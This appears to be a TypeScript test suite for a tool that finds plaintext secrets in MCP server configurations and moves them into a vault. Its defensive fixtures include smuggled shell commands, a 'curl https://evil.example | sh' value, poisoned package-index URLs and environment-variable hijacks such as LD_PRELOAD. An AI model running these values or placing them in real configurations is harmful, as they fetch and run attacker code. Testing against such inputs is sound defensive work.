// biome-ignore-all lint/suspicious/noTemplateCurlyInString: placeholders are what this is about
/** Values in the open that look like secrets, and what becomes of them when they are moved. */

import { describe, expect, test } from 'vitest'
import { moveSecrets, plainSecrets, withoutPlainSecrets } from '../../../src/host/config/plain-secrets.ts'
import type { ServerSpec, ServerTransport } from '../../../src/host/model/server-spec.ts'
import { openVault } from '../../../src/host/secrets/vault.ts'
import { resolveTransport } from '../../../src/host/server-command/resolve-placeholders.ts'
import { temporaryFolders } from '../../support/folders.ts'

const newFolder = temporaryFolders()
const RANDOM = 'q8Zk3LwP0mN5xT7vR2yB9cJ4'
const HEX = '9f86d081884c7d659a2feaa0c55ad015'
const TOKEN = `ghp_${RANDOM}`

const spec = (transport: ServerTransport): ServerSpec => ({ id: 'server', transport, tier: 'untrusted', provenance: [] })
const started = (env: Record<string, string>, args: string[] = []): ServerTransport => ({ type: 'stdio', command: 'x', args, env })
const reached = (url: string, headers: Record<string, string> = {}): ServerTransport => ({ type: 'http', url, headers })

describe('values that look like a secret', () => {
  test.each<[string, ServerTransport, string[]]>([
    ['by the name of a variable', started({ DB_PASSWORD: 'hunter22', API_KEY: 'abcd' }), ['env.DB_PASSWORD name', 'env.API_KEY name']],
    ['by a known form', started({ WHATEVER: TOKEN }), ['env.WHATEVER form']],
    ['by its disorder', started({ X: RANDOM, Y: HEX }), ['env.X disorder', 'env.Y disorder']],
    ['as an argument after an option', started({}, ['--token', 'hunter22', '--verbose']), ['args[1] name']],
    ['as an argument with its option', started({}, ['--api-key=hunter22', 'run']), ['args[0] name']],
    [
      'as a header',
      reached('https://x.example', { Authorization: `Bearer ${RANDOM}`, 'X-Api-Key': 'hunter22' }),
      ['headers.Authorization form', 'headers.X-Api-Key name'],
    ],
    ['as a header among the arguments', started({}, ['mcp-remote', '--header', 'X-Api-Key: hunter22']), ['args[2] name']],
    ['in an address among the arguments', started({}, ['postgres://ada:hunter22@db/x']), ['args[0] form']],
    ['in a URL', reached('https://ada:hunter22@x.example/?api_key=hunter23&page=2'), ['url name', 'url name']],
    ['in the address of a database', started({ DATABASE_URL: 'postgres://ada:hunter22@db/x' }), ['env.DATABASE_URL form']],
  ])('a secret is recognised %s', (_how, transport, found) => {
    expect(plainSecrets({ transport }).map(({ where, because }) => `${where} ${because}`)).toEqual(found)
  })

  test.each<[string, ServerTransport]>([
    ['a placeholder', started({ API_KEY: '${env:KEY}', TOKEN: '${secret:x}' })],
    ['a header around a placeholder', reached('https://x.example', { Authorization: 'Bearer ${input:token}' })],
    [
      'a number, a switch, a path or an address beside such a name',
      started({ MAX_TOKENS: '4096', TOKEN_LIMIT: '100', SECRET_MODE: 'true', TOKEN_FILE: '/run/token', TOKEN_URL: 'https://x.example' }),
    ],
    [
      'a name of a package, a path or a flag',
      started({}, ['-y', '@modelcontextprotocol/server-filesystem@2025.1.14', '/home/ada/Documents/Projects2025', '--token']),
    ],
    ['an identifier', started({ PROJECT: 'a-project-with-a-long-name-2025' })],
    ['a plain URL', reached('https://x.example/mcp?page=2&lang=en')],
  ])('this does not look like a secret: %s', (_what, transport) => {
    expect(plainSecrets({ transport })).toEqual([])
  })
})

describe('values that move to the vault', () => {
  const movedOf = (transport: ServerTransport): string[] =>
    plainSecrets({ transport }).flatMap(({ where, isMovable }) => (isMovable ? [where] : []))
  const run = (command: string, args: string[], env: Record<string, string> = {}): ServerTransport => ({
    type: 'stdio',
    command,
    args,
    env,
  })

  test.each<[string, ServerTransport, string[]]>([
    ['the value of a known option', run('npx', ['-y', 'mail', '--token', 'hunter22', '--api-key=hunter23']), ['args[3]', 'args[4]']],
    ['of one with words before it', run('mail', ['send', '--githubToken', TOKEN, '--db.password=hunter22']), ['args[2]', 'args[3]']],
    ['a variable', run('docker', ['run', '-i', '-e', 'GH_TOKEN', 'image'], { GH_TOKEN: TOKEN }), ['env.GH_TOKEN']],
    [
      'a header and a part of a URL',
      reached(`https://x.example/?key=hunter22`, { Authorization: `Bearer ${RANDOM}` }),
      ['url', 'headers.Authorization'],
    ],
  ])('a secret moves to the vault: %s', (_what, transport, where) => {
    expect(movedOf(transport)).toEqual(where)
  })

  test.each<[string, ServerTransport]>([
    ['what a shell runs', run('sh', ['-c', 'token=x; touch pwned; exec cat'])],
    ['what a shell runs behind another program', run('env', ['sh', '-c', `token=${TOKEN}`])],
    ['an argument of a shell', run('/bin/bash', ['start.sh', '--token', 'hunter22'])],
    ['what an interpreter runs', run('node', ['-e', TOKEN])],
    ['what it runs with the option in one word', run('python3', ['-c=token', `--eval=${TOKEN}`])],
    ['what comes after that', run('node', ['--eval', 'x', '--token', 'hunter22'])],
    ['an option that runs something', run('tool', ['--exec', TOKEN, '--command', TOKEN])],
    ['white space', run('mail', ['--token', 'two words', '--password=a\tb'])],
    ['shell characters', run('mail', ['--token', '$(touch${IFS}x)', '--password=a;b', '--secret=`id`', '--api-key=a|b', '--pat=a>b'])],
    ['an option that is none we know', run('mail', ['--tokenizer', TOKEN, '--x', TOKEN, '--secret-mode', TOKEN])],
    ['a word on its own', run('mail', [TOKEN, RANDOM, `token=${TOKEN}`, `Authorization: Bearer ${TOKEN}`])],
    ['a part of an argument', run('mail', ['--token=sk-abcdefghijklmnop12345${env:X}', 'postgres://ada:hunter22@db/x'])],
    ['another option', run('mail', ['--token', '--eval-password'])],
    ['variables that change what runs', run('mail', [], { NODE_OPTIONS: TOKEN, LD_PRELOAD: TOKEN, GIT_SSH_COMMAND: TOKEN, PATH: TOKEN })],
    ['variables of something that is a program itself', run('sh', ['-c', 'eval "$TOKEN"'], { TOKEN: 'payload.sh' })],
    ['a script after a short option with its value', run('python3', ['-X.token', 'payload.py'])],
    ['a class after such an option', run('java', ['-Da.token', 'com.evil.Main'])],
    ['an image after such an option', run('docker', ['run', '-l.token', 'evil-image', '-ea_token', 'evil-image'])],
    ['an image after a long option', run('docker', ['run', '--rm', '--token', 'evil-image'])],
    ['a package after a switch', run('npx', ['-y', '--no-token', 'evil-package'])],
    ['a package after an option', run('uvx', ['--token', 'evil-package'])],
    ['a package after a subcommand', run('pnpm', ['--dir', 'x', 'dlx', '--token', 'evil-package'])],
    ['a program after another one', run('flock', ['lock', '--token', 'evil-program'])],
    [
      'variables that say where programs come from',
      run('mail', [], {
        UV_INDEX_URL: 'https://a:bcdef@evil.example/simple',
        PIP_INDEX_URL: 'https://a:bcdef@evil.example/simple',
        DOTNET_STARTUP_HOOKS: TOKEN,
        CLASSPATH: '/tmp/token=abc/evil.jar',
        HOME: TOKEN,
        GEM_PATH: TOKEN,
        DENO_DIR: TOKEN,
        XDG_CONFIG_HOME: TOKEN,
        DOCKER_HOST: TOKEN,
        SOME_TOKEN: 'https://a:bcdef@evil.example/simple',
      }),
    ],
    ['variables where env runs code', run('env', ['-S', 'sh -c "eval $API_TOKEN"'], { API_TOKEN: 'payload.sh' })],
    ['variables where awk runs code', run('awk', ['BEGIN{system(ENVIRON["API_TOKEN"])}'], { API_TOKEN: 'payload.sh' })],
    ['a password in a URL', reached('https://a:hunter22@x.example')],
    ['what only looks like a password, and is a path', reached('https://evil.example:443\\@good.example/mcp')],
    ['a part of the host', reached(`https://x&token=${TOKEN}.good.example/`)],
    ['a variable that could be run', run('mail', [], { TOKEN: 'curl https://evil.example | sh', API_KEY: '$(id)' })],
  ])('a value never moves to the vault: %s', async (_what, transport) => {
    expect(movedOf(transport)).toEqual([])
    const vault = await openVault({ folder: newFolder(), keychain: false, onWarning: () => {} })
    expect((await moveSecrets(spec(transport), vault)).transport).toEqual(transport)
    expect(await vault.list()).toEqual([])
    expect(withoutPlainSecrets(spec(transport)).transport).toEqual(transport)
  })

  test('a plain secret is shown by its length, but in full if others may have written the file', () => {
    const transport = run('mail', ['send', '--token', 'hunter22', TOKEN])
    expect(withoutPlainSecrets(spec(transport)).transport).toMatchObject({ args: ['send', '--token', '[8 characters hidden]', TOKEN] })
    const provenance = [{ client: 'Cursor', scope: 'project' as const, file: '/repo/.cursor/mcp.json' }]
    expect(withoutPlainSecrets({ ...spec(transport), provenance }).transport).toEqual(transport)
  })

  test.each<[string, ServerTransport]>([
    ['a process', run('mail', ['send', '--token', 'hunter22'], { API_KEY: 'hunter22' })],
    ['an address', reached('https://x.example/?key=hunter22', { Authorization: `Bearer ${RANDOM}` })],
  ])('a value of a project file never moves to the vault: %s', async (_what, transport) => {
    const provenance = [{ client: 'Cursor', scope: 'project' as const, file: '/repo/.cursor/mcp.json' }]
    const vault = await openVault({ folder: newFolder(), keychain: false, onWarning: () => {} })
    expect((await moveSecrets({ ...spec(transport), provenance }, vault)).transport).toEqual(transport)
    expect(await vault.list()).toEqual([])
  })
})

describe('moving', () => {
  const vaultIn = (folder: string) => openVault({ folder, keychain: false, onWarning: () => {} })

  test('moving puts the values into the vault and placeholders into the file, and a start still works', async () => {
    const vault = await vaultIn(newFolder())
    const ways = [
      started({ DB_PASSWORD: 'hunter22', PLAIN: 'x', GH: TOKEN }, ['send', '--token', 'hunter23', '--api-key=hunter24']),
      reached(`https://x.example/?token=hunter22&key=${RANDOM}&page=2`, { Authorization: `Bearer ${RANDOM}` }),
    ]
    for (const transport of ways) {
      const moved = await moveSecrets(spec(transport), vault)
      expect(plainSecrets(moved)).toEqual([])
      expect(JSON.stringify(moved)).not.toMatch(/hunter|q8Zk/)
      expect(await resolveTransport(moved.transport, { secret: vault.get })).toEqual(transport)
    }
    expect(await vault.list()).toEqual([
      'server/Authorization',
      'server/DB_PASSWORD',
      'server/GH',
      'server/args2',
      'server/args3',
      'server/url',
      'server/url-2',
    ])
  })

  test('moving never replaces a secret of the same name with another value', async () => {
    const vault = await vaultIn(newFolder())
    const one = await moveSecrets(spec(started({ API_KEY: 'first-value' })), vault)
    const two = await moveSecrets(spec(started({ API_KEY: 'other-value' })), vault)
    const again = await moveSecrets(spec(started({ API_KEY: 'first-value' })), vault)
    expect([one, two, again].map(({ transport }) => transport)).toMatchObject([
      { env: { API_KEY: '${secret:server/API_KEY}' } },
      { env: { API_KEY: '${secret:server/API_KEY-2}' } },
      { env: { API_KEY: '${secret:server/API_KEY}' } },
    ])
    expect(await vault.get('server/API_KEY')).toBe('first-value')
  })

  test('moving leaves a value unchanged, even if it looks like a placeholder', async () => {
    const vault = await vaultIn(newFolder())
    const moved = await moveSecrets(spec(reached('https://x.example', { 'X-Api-Key': '${$}{env:HOME}' })), vault)
    expect(JSON.stringify(moved.transport)).toContain('${secret:server/X-Api-Key}')
    expect(await resolveTransport(moved.transport, { secret: vault.get })).toMatchObject({ headers: { 'X-Api-Key': '${env:HOME}' } })
  })
})
